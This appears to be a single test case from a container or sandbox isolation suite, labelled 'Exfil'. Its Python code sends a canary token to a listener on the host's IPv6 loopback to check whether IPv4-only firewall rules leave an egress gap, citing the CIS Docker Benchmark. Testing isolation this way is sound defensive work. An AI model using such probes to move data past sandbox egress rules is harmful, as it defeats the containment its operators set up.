# id: network/tcp6-out
# class: Exfil
# title: Send data out over IPv6
# intent: Connects to a port of the host's IPv6 loopback, which rules for IPv4 forget
# success: The host's listener has got the token
# source: CIS Docker Benchmark 5.10; Docker, ip6tables
# evidence: listener tcp6
# host: safe
import socket

try:
    with socket.create_connection((ADDRESSES[0], PORT), timeout=2) as connection:
        connection.sendall(TOKEN.encode())
    finished()
except OSError as error:
    stopped(error)
